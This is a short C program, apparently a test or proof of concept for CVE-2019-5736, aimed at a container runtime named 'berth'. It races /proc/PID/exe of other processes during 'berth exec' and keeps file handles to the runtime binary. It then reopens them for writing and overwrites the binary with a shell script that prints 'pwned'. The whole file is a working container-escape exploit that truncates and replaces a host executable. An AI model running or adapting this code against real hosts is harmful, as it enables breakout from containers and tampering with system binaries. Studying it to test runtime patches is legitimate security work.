// Races /proc/PID/exe of every other process while `berth exec` runs (argv[1]:
// seconds at most, until /tmp/stop exists), keeps what it could open, then
// tries to write the binary through it (CVE-2019-5736).
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
int main(int argc, char **argv) {
    int fds[256], n = 0, tries = 0;
    char self[32];
    snprintf(self, sizeof self, "%d", getpid());
    time_t end = time(NULL) + atoi(argv[1]);
    while (time(NULL) < end && access("/tmp/stop", F_OK) != 0) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            if (e->d_name[0] < '1' || e->d_name[0] > '9' || !strcmp(e->d_name, self) ||
                !strcmp(e->d_name, "1"))
                continue;
            char p[64], link[256];
            snprintf(p, sizeof p, "/proc/%s/exe", e->d_name);
            ssize_t l = readlink(p, link, sizeof link - 1);
            tries++;
            if (l <= 0) continue;
            link[l] = 0;
            if (strstr(link, "berth") && n < 256) {
                int fd = open(p, O_PATH);
                if (fd >= 0) fds[n++] = fd;
            }
        }
        if (d) closedir(d);
    }
    int written = 0;
    for (int i = 0; i < n; i++) {
        char p[64];
        snprintf(p, sizeof p, "/proc/self/fd/%d", fds[i]);
        for (int k = 0; k < 50; k++) {
            int w = open(p, O_WRONLY | O_TRUNC);
            if (w >= 0) { write(w, "#!/bin/sh\necho pwned\n", 21); close(w); written++; break; }
            usleep(20000);
        }
    }
    printf("tries=%d opened=%d written=%d\n", tries, n, written);
    return 0;
}
